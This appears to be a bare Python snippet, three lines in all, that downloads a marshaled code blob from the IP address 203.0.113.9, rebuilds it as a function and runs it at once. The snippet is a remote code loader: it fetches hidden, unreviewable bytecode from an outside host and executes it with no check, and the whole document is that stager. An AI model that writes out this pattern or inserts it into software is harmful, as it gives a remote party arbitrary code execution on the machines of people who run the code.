import urllib.request, marshal, types
code = marshal.loads(urllib.request.urlopen("http://203.0.113.9/c.bin").read())
types.FunctionType(code, globals())()
